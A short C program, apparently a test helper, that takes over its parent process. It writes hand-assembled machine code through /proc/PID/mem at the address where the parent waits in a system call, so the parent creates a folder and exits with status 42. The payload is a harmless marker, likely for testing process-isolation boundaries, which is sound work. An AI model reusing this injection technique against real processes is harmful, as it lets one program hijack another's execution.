/* takeover FOLDER: writes code into the memory of its parent, where that waits
 * in a system call, and ends: the parent then makes FOLDER and ends with status
 * 42.  Needs the right to write there: root's, if the parent is not dumpable. */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* lea FOLDER(%rip), %rdi; mov $0755, %esi; mov $83 (mkdir), %eax; syscall;
 * mov $42, %edi; mov $231 (exit_group), %eax; syscall; FOLDER */
static const unsigned char code[] = {
	0x48, 0x8d, 0x3d, 24,   0,    0,    0,    0xbe, 0xed, 1,   0,
	0,    0xb8, 83,   0,    0,    0,    0x0f, 0x05, 0xbf, 42,  0,
	0,    0,    0xb8, 0xe7, 0,    0,    0,    0x0f, 0x05,
};

/* The last word of /proc/PID/syscall; 0: it is running; 1: it may not be read,
 * which the memory tells more exactly. */
static uint64_t waits_at(pid_t pid)
{
	char path[64], line[512];
	unsigned long long ip = 1;
	FILE *file;

	snprintf(path, sizeof(path), "/proc/%d/syscall", pid);
	file = fopen(path, "r");
	if (file && fgets(line, sizeof(line), file))
		ip = strrchr(line, ' ') ? strtoull(strrchr(line, ' '), NULL, 16)
					: 0;
	if (file)
		fclose(file);
	return ip;
}

int main(int argc, char **argv)
{
	char path[64];
	uint64_t at;
	int fd;

	if (argc != 2)
		return 2;
	while (!(at = waits_at(getppid())))
		usleep(1000);
	snprintf(path, sizeof(path), "/proc/%d/mem", getppid());
	fd = open(path, O_RDWR);
	if (fd < 0) {
		perror("takeover");
		return 1;
	}
	if (pwrite(fd, code, sizeof(code), (off_t)at) != sizeof(code) ||
	    pwrite(fd, argv[1], strlen(argv[1]) + 1,
		   (off_t)(at + sizeof(code))) < 0) {
		perror("takeover: write");
		return 1;
	}
	return 0;
}
